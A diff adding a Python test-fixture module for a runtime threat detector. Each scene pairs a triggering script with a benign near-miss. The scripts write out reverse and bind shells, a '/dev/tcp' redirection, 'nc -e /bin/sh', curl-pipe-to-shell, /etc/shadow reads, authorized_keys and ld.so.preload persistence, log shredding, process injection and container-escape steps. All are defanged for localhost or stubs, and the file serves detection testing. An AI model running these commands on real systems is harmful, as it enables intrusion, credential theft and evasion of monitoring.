@@ -1,0 +1,486 @@
+# SPDX-License-Identifier: Apache-2.0
+"""What each finding is about, really done, and what only looks like it."""
+
+from __future__ import annotations
+
+from collections.abc import Mapping
+from dataclasses import dataclass, field
+from typing import Any, Final
+
+__all__ = ["INFORMATIONAL", "SCENES", "Scene"]
+
+INFORMATIONAL: Final = "informational"
+SUSPICIOUS: Final = "Runtime/SuspiciousCommand"
+
+
+@dataclass(frozen=True)
+class Scene:
+    """Something that happens, and the finding that it gives."""
+
+    name: str
+    type: str
+    """Of the finding, and of no other in the process tree."""
+    script: str
+    """For sh, in an empty folder; `python` and `do` are helpers."""
+    near: str
+    """What looks similar and must not give that finding."""
+    evidence: Mapping[str, Any] = field(default_factory=dict)
+    """Values at dotted paths in the finding; {cwd} is the folder."""
+    contained: bool = False
+    """In a pid and mount namespace of its own."""
+    severity: str = ""
+    """Informational: alone it stays a signal."""
+
+
+def _python(body: str) -> str:
+    return f"exec python3 - <<'EOF'\nimport ctypes, os, socket, subprocess, sys, time\n{body}\nEOF"
+
+
+LIBC: Final = "libc = ctypes.CDLL(None, use_errno=True)\n"
+LISTEN: Final = (
+    "l = socket.socket(); l.bind(('127.0.0.1', 0)); l.listen()\n"
+    "c = socket.socket(); c.connect(l.getsockname()); s = l.accept()[0]\n"
+)
+MEMORY_FOLDER: Final = "mount -t tmpfs none /mnt; cd /mnt; "
+"""Not a folder for temporary files, from which nothing should run."""
+SLEEPER: Final = "child = subprocess.Popen(['sleep', '20'])\ntime.sleep(0.2)\n"
+
+
+def _tool(name: str, arguments: str) -> str:
+    """A program of that name that does nothing."""
+    return f"printf '#!/bin/sh\\n' > {name}; chmod 755 {name}; ./{name} {arguments}"
+
+
+def _command(
+    name: str, purpose: str, program: str, arguments: str, near: str, *, severity: str = "medium"
+) -> Scene:
+    return Scene(
+        name,
+        f"{purpose}:{SUSPICIOUS}",
+        _tool(program, arguments),
+        _tool(program, near),
+        {"context.commandLineExample": ...},
+        severity=severity,
+    )
+
+
+SHELLS: Final = [
+    Scene(
+        "reverse-shell",
+        "Execution:Runtime/ReverseShell",
+        _python(
+            LISTEN + "p = subprocess.Popen(['/bin/sh', '-i'], stdin=c, stdout=c, stderr=c)\n"
+            "s.send(b'exit\\n'); p.wait(5)"
+        ),
+        _python(
+            "a, b = socket.socketpair()\n"
+            "p = subprocess.Popen(['/bin/sh', '-i'], stdin=a, stdout=a, stderr=a)\n"
+            "b.send(b'exit\\n'); p.wait(5)"
+        ),
+        {
+            "context.addressFamily": "AF_INET",
+            "context.ianaProtocolNumber": 6,
+            "action.networkConnectionAction.remoteIpDetails.ipAddressV4": "127.0.0.1",
+            "process.name": "dash",
+        },
+        severity="high",
+    ),
+    Scene(
+        "reverse-shell-by-dup",
+        "Execution:Runtime/ReverseShell",
+        'python3 -c \'import socket; l = socket.socket(); l.bind(("127.0.0.1", 0)); l.listen();'
+        ' print(l.getsockname()[1], flush=True); l.accept()[0].send(b"exit\\n")\' > port &'
+        " until [ -s port ]; do sleep 0.1; done;"
+        " bash -c 'eval \"exec 3<>/dev/t''cp/127.0.0.1/$(cat port)\"; exec 0<&3'",
+        "bash -c 'exec 0</dev/null'",
+        {"context.addressFamily": "AF_INET"},
+        severity="high",
+    ),
+    Scene(
+        "bind-shell",
+        "Execution:Runtime/BindShell",
+        _python(
+            LISTEN + "p = subprocess.Popen(['/bin/sh', '-i'], stdin=s, stdout=s, stderr=s)\n"
+            "c.send(b'exit\\n'); p.wait(5)"
+        ),
+        _python(LISTEN + "subprocess.run(['/bin/true'], stdin=s)"),
+        {"action.networkConnectionAction.connectionDirection": "INBOUND"},
+        severity="high",
+    ),
+]
+
+MEMORY: Final = [
+    Scene(
+        "fileless",
+        "DefenseEvasion:Runtime/FilelessExecution",
+        _python(
+            "fd = os.memfd_create('x'); os.write(fd, open('/bin/true', 'rb').read())\n"
+            "os.execv(f'/proc/self/fd/{fd}', ['x'])"
+        ),
+        _python("fd = os.open('/bin/true', os.O_RDONLY)\nos.execv(f'/proc/self/fd/{fd}', ['x'])"),
+        {"process.executablePath": "/memfd:x"},
+        severity="medium",
+    ),
+    Scene(
+        "injection-by-proc",
+        "DefenseEvasion:Runtime/ProcessInjection.Proc",
+        _python(SLEEPER + "open(f'/proc/{child.pid}/mem', 'r+b').close(); child.kill()"),
+        _python("open('/proc/self/mem', 'r+b').close()"),
+        {"context.targetProcess.pid": ...},
+        severity="high",
+    ),
+    Scene(
+        "injection-by-ptrace",
+        "DefenseEvasion:Runtime/ProcessInjection.Ptrace",
+        _python(
+            LIBC + SLEEPER + "libc.ptrace(16, child.pid, 0, 0); os.waitpid(child.pid, 0)\n"
+            "libc.ptrace(4, child.pid, 0, 0); libc.ptrace(17, child.pid, 0, 0); child.kill()"
+        ),
+        _python(
+            LIBC + SLEEPER + "libc.ptrace(16, child.pid, 0, 0); os.waitpid(child.pid, 0)\n"
+            "libc.ptrace(1, child.pid, 0, 0); libc.ptrace(17, child.pid, 0, 0); child.kill()"
+        ),
+        {
+            "context.targetProcess.executablePath": "/usr/bin/sleep",
+            "context.flags": ["PTRACE_POKETEXT"],
+        },
+        severity="medium",
+    ),
+    Scene(
+        "injection-by-vm-write",
+        "DefenseEvasion:Runtime/ProcessInjection.VirtualMemoryWrite",
+        _python(
+            LIBC + SLEEPER + "v = (ctypes.c_size_t * 2)(8, 1)\n"
+            "libc.process_vm_writev(child.pid, v, 1, v, 1, 0); child.kill()"
+        ),
+        _python(
+            LIBC + SLEEPER + "v = (ctypes.c_size_t * 2)(8, 1)\n"
+            "libc.process_vm_readv(child.pid, v, 1, v, 1, 0); child.kill()"
+        ),
+        {"context.targetProcess.name": "sleep"},
+        severity="high",
+    ),
+    Scene(
+        "userfaultfd",
+        "PrivilegeEscalation:Runtime/UserfaultfdUsage",
+        _python(LIBC + "libc.syscall(323, 0)"),
+        _python(LIBC + "libc.syscall(39, 0)"),
+        severity="medium",
+    ),
+    Scene(
+        "guard-killed",
+        "DefenseEvasion:Runtime/SecurityToolStopped",
+        MEMORY_FOLDER
+        + _python(
+            "import shutil; os.chdir('/mnt'); shutil.copy('/bin/sleep', 'auditd')\n"
+            "child = subprocess.Popen(['./auditd', '20']); time.sleep(0.2)\n"
+            "child.kill(); child.wait()"
+        ),
+        _python(SLEEPER + "child.kill()"),
+        {"context.targetProcess.executablePath": "/mnt/auditd", "context.signal": "SIGKILL"},
+        severity="high",
+    ),
+]
+
+CONTAINERS: Final = [
+    Scene(
+        "docker-socket",
+        "PrivilegeEscalation:Runtime/DockerSocketAccessed",
+        _python("socket.socket(socket.AF_UNIX).connect_ex('docker.sock')"),
+        _python("socket.socket(socket.AF_UNIX).connect_ex('other.sock')"),
+        {"context.socketPath": "docker.sock"},
+        contained=True,
+        severity="medium",
+    ),
+    Scene(
+        "runc-escape",
+        "PrivilegeEscalation:Runtime/RuncContainerEscape",
+        "touch runc; : >> runc",
+        "touch runner; : >> runner; cat runc 2>/dev/null",
+        {"context.runcBinaryPath": "{cwd}/runc"},
+        contained=True,
+        severity="high",
+    ),
+    Scene(
+        "runc-working-folder",
+        "PrivilegeEscalation:Runtime/RuncContainerEscape",
+        "ln -s /proc/self/fd/7 work",
+        "ln -s /proc/self/exe work",
+        {"context.filePath": "/proc/self/fd/7"},
+        contained=True,
+        severity="high",
+    ),
+    Scene(
+        "release-agent",
+        "PrivilegeEscalation:Runtime/CGroupsReleaseAgentModified",
+        "echo /cmd > release_agent",
+        "echo /cmd > released_agent; cat release_agent 2>/dev/null",
+        {"context.releaseAgentPath": "{cwd}/release_agent"},
+        contained=True,
+        severity="high",
+    ),
+    Scene(
+        "host-mount",
+        "PrivilegeEscalation:Runtime/ContainerMountsHostDirectory",
+        _python(LIBC + "libc.mount(b'/dev/nowhere', b'/mnt', b'ext4', 1, None)"),
+        _python(LIBC + "libc.mount(b'none', b'/mnt', b'tmpfs', 0, None)"),
+        {
+            "context.mountSource": "/dev/nowhere",
+            "context.mountTarget": "/mnt",
+            "context.fileSystemType": "ext4",
+            "context.flags": ["MS_RDONLY"],
+        },
+        contained=True,
+        severity="medium",
+    ),
+    Scene(
+        "kernel-helper",
+        "PrivilegeEscalation:Runtime/KernelHelperModified",
+        ": >> /proc/sys/kernel/core_pattern",
+        "cat /proc/sys/kernel/core_pattern",
+        {"context.filePath": "/proc/sys/kernel/core_pattern"},
+        contained=True,
+        severity="high",
+    ),
+    Scene(
+        "raw-device",
+        "PrivilegeEscalation:Runtime/RawDeviceAccessed",
+        "cat /dev/mem | true; exec 3< /dev/vda",
+        "cat /dev/null",
+        {"context.filePath": ...},
+        contained=True,
+        severity="high",
+    ),
+    Scene(
+        "packet-socket",
+        "Discovery:Runtime/PacketSocketCreated",
+        _python("socket.socket(socket.AF_PACKET, socket.SOCK_RAW)"),
+        _python("socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)"),
+        {"context.addressFamily": "AF_PACKET"},
+        contained=True,
+        severity="medium",
+    ),
+]
+
+DRIFT: Final = [
+    Scene(
+        "downloaded",
+        f"Execution:{SUSPICIOUS}",
+        MEMORY_FOLDER + "curl -s -o got file:///bin/true; chmod 755 got; ./got",
+        "cp /bin/true got; ./got",
+        {"context.modifyingProcess.executablePath": "/usr/bin/curl", "process.name": "got"},
+        severity="high",
+    ),
+    Scene(
+        "elevation",
+        "PrivilegeEscalation:Runtime/ElevationToRoot",
+        MEMORY_FOLDER
+        + "install -m 4755 /usr/bin/true odd; setpriv --reuid 65534 --clear-groups ./odd",
+        "setpriv --reuid 65534 --clear-groups su --help",
+        {"context.threatFilePath": "/mnt/odd", "process.euid": 0},
+        severity="medium",
+    ),
+    Scene(
+        "no-argument",
+        "PrivilegeEscalation:Runtime/ExploitedSetuidProgram",
+        _python(
+            LIBC + "none = (ctypes.c_char_p * 1)(None)\nlibc.execve(b'/usr/bin/su', none, none)"
+        ),
+        "su --help",
+        {"process.name": "su"},
+        severity="high",
+    ),
+]
+
+FILES: Final = [
+    Scene(
+        "persistence",
+        "Persistence:Runtime/SensitiveFileModified",
+        "mount -t tmpfs none /root; mkdir /root/.ssh; echo key > /root/.ssh/authorized_keys",
+        "mount -t tmpfs none /root; mkdir /root/.ssh; echo key > /root/.ssh/known_hosts",
+        {"context.filePath": "/root/.ssh/authorized_keys", "context.fileOperation": "Write"},
+        severity="medium",
+    ),
+    Scene(
+        "persistence-rename",
+        "Persistence:Runtime/SensitiveFileModified",
+        "mount -t tmpfs none /etc; echo x > /etc/new; mv /etc/new /etc/ld.so.preload",
+        "mount -t tmpfs none /etc; echo x > /etc/new; mv /etc/new /etc/motd",
+        {"context.filePath": "/etc/ld.so.preload", "context.fileOperation": "Rename"},
+        severity="medium",
+    ),
+    Scene(
+        "privilege",
+        "PrivilegeEscalation:Runtime/SensitiveFileModified",
+        "mount -t tmpfs none /etc; echo x > /etc/sudoers; rm /etc/sudoers",
+        "cat /etc/pam.d/su",
+        {"context.filePath": "/etc/sudoers"},
+        severity="medium",
+    ),
+    Scene(
+        "evasion",
+        "DefenseEvasion:Runtime/SensitiveFileModified",
+        "mount -t tmpfs none /root; echo ls > /root/.bash_history; rm /root/.bash_history",
+        "mount -t tmpfs none /root; echo ls >> /root/.bash_history; cat /root/.bash_history",
+        {
+            "context.filePath": "/root/.bash_history",
+            "context.fileOperation": "Delete",
+            "context.shellHistoryFilePath": "/root/.bash_history",
+        },
+        severity="medium",
+    ),
+    Scene(
+        "secret-read",
+        "CredentialAccess:Runtime/SensitiveFileRead",
+        "cat /etc/shadow > /dev/null",
+        "passwd --status root; cat /etc/passwd > /dev/null",
+        {"context.filePath": "/etc/shadow"},
+        severity="medium",
+    ),
+    Scene(
+        "secret-linked",
+        "CredentialAccess:Runtime/SensitiveFileLinked",
+        "ln -s /etc/shadow harmless",
+        "ln -s /etc/hostname harmless",
+        {"context.filePath": "/etc/shadow"},
+        severity="medium",
+    ),
+]
+
+COMMANDS: Final = [
+    Scene(
+        "download-to-shell",
+        f"Execution:{SUSPICIOUS}",
+        "bash -c 'false && curl -s http://192.0.2.1/x | sh'",
+        "bash -c 'false && curl -s http://192.0.2.1/x | cat'",
+        {"context.commandLineExample": "curl URL | sh"},
+        severity="high",
+    ),
+    _command("decode", "Execution", "bash", "-c 'base64 -d x | sh'", "-c 'base64 -d x | cat'"),
+    _command("find-setuid", "PrivilegeEscalation", "find", "/ -perm -4000", "/ -perm 755"),
+    _command("make-setuid", "PrivilegeEscalation", "chmod", "u+s x", "u+x x"),
+    _command("enter-host", "PrivilegeEscalation", "nsenter", "-t 1 -a sh", "-t 77 -a sh"),
+    _command(
+        "privileged-container", "PrivilegeEscalation", "docker", "run --privileged x", "run x"
+    ),
+    _command("firewall-off", "DefenseEvasion", "iptables", "-F", "-L", severity="high"),
+    _command(
+        "guard-off", "DefenseEvasion", "systemctl", "stop auditd", "status auditd", severity="high"
+    ),
+    _command("crontab-removed", "DefenseEvasion", "crontab", "-r", "-l"),
+    _command("logs-cleared", "DefenseEvasion", "shred", "/var/log/auth.log", "x"),
+    _command("service-added", "Persistence", "systemctl", "enable x.service", "is-enabled x"),
+    _command("crontab-added", "Persistence", "crontab", "/tmp/x", "-l"),
+    _command("user-added", "Persistence", "useradd", "x", ""),
+    Scene(
+        "credential-search",
+        "CredentialAccess:Runtime/CredentialsSearched",
+        "grep -r 'BEGIN RSA PRIVATE' . ; true",
+        "grep -r 'BEGIN' . ; true",
+        severity="medium",
+    ),
+    Scene(
+        "recon-adds-up",
+        f"Discovery:{SUSPICIOUS}",
+        f"{_tool('whoami', '')}; {_tool('ss', '-tlnp')}; {_tool('aws', 'sts get-caller-identity')};"
+        f" {_tool('kubectl', 'auth can-i --list')}",
+        f"{_tool('whoami', '')}; {_tool('ss', '-tlnp')}",
+        {"evidence.signals": ...},
+        severity="low",
+    ),
+    Scene(
+        "scanner",
+        "Execution:Runtime/SuspiciousTool",
+        _tool("nmap", "127.0.0.1"),
+        _tool("mmap", "127.0.0.1"),
+        {"context.toolName": "nmap", "context.toolCategory": "Network Scanner"},
+        severity="low",
+    ),
+    Scene(
+        "offensive-tool",
+        "Execution:Runtime/SuspiciousTool",
+        _tool("linpeas.sh", ""),
+        _tool("lint.sh", ""),
+        {"context.toolName": "linpeas.sh", "context.toolCategory": "Pentest Tool"},
+        severity="high",
+    ),
+    Scene(
+        "netcat-shell",
+        "Execution:Runtime/SuspiciousTool",
+        _tool("nc", "-l -e /bin/sh"),
+        _tool("nc", "-l 1234"),
+        {"context.toolCategory": "Backdoor Tool"},
+        severity="high",
+    ),
+    Scene(
+        "miner",
+        "Impact:Runtime/CryptoMinerExecuted",
+        _tool("harmless", "--url stratum+tcp://192.0.2.1:3333"),
+        _tool("harmless", "--url http://192.0.2.1:3333"),
+        severity="high",
+    ),
+]
+
+NETWORK: Final = [
+    Scene(
+        "port-scan",
+        "Discovery:Runtime/PortScan",
+        _python("for p in range(1, 26): socket.socket().connect_ex(('127.0.0.1', p))"),
+        _python("for p in range(1, 6): socket.socket().connect_ex(('127.0.0.1', p))"),
+        {"action.networkConnectionAction.remoteIpDetails.ipAddressV4": "127.0.0.1"},
+        severity="medium",
+    ),
+]
+
+SIGNALS: Final = [
+    Scene(
+        "shell-of-a-server",
+        "Execution:Runtime/SuspiciousShellCreated",
+        _python(
+            LISTEN + "p = subprocess.Popen(['bash', '-i'], stdin=subprocess.PIPE)\n"
+            "p.communicate(b'exit\\n')"
+        ),
+        _python("p = subprocess.Popen(['bash', '-i'], stdin=subprocess.PIPE)\np.communicate(b'')"),
+        severity=INFORMATIONAL,
+    ),
+    Scene(
+        "anti-debugging",
+        "DefenseEvasion:Runtime/PtraceAntiDebugging",
+        _python(LIBC + "libc.ptrace(0, 0, 0, 0)"),
+        _python(LIBC + "libc.ptrace(17, 0, 0, 0)"),
+        severity=INFORMATIONAL,
+    ),
+    Scene(
+        "temporary-file",
+        "Execution:Runtime/TemporaryFileExecuted",
+        "cp /bin/true odd; ./odd",
+        f"{MEMORY_FOLDER}cp /bin/true odd; ./odd",
+        {"context.threatFilePath": "{cwd}/odd"},
+        severity=INFORMATIONAL,
+    ),
+    Scene(
+        "remote-copy",
+        "Exfiltration:Runtime/RemoteFileCopy",
+        _tool("scp", "x host.test:/tmp"),
+        _tool("scp", "--help"),
+        severity=INFORMATIONAL,
+    ),
+    Scene(
+        "namespace-entered",
+        "PrivilegeEscalation:Runtime/NamespaceEntered",
+        "nsenter --net=/proc/self/ns/net true",
+        "unshare --net true",
+        contained=True,
+        severity=INFORMATIONAL,
+    ),
+    Scene(
+        "metadata-service",
+        "CredentialAccess:Runtime/MetadataServiceContacted",
+        _python("s = socket.socket(); s.setblocking(False); s.connect_ex(('169.254.169.254', 80))"),
+        _python("s = socket.socket(); s.setblocking(False); s.connect_ex(('169.254.1.1', 80))"),
+        contained=True,
+        severity=INFORMATIONAL,
+    ),
+]
+
+SCENES: Final = [*SIGNALS, *SHELLS, *MEMORY, *CONTAINERS, *DRIFT, *FILES, *COMMANDS, *NETWORK]
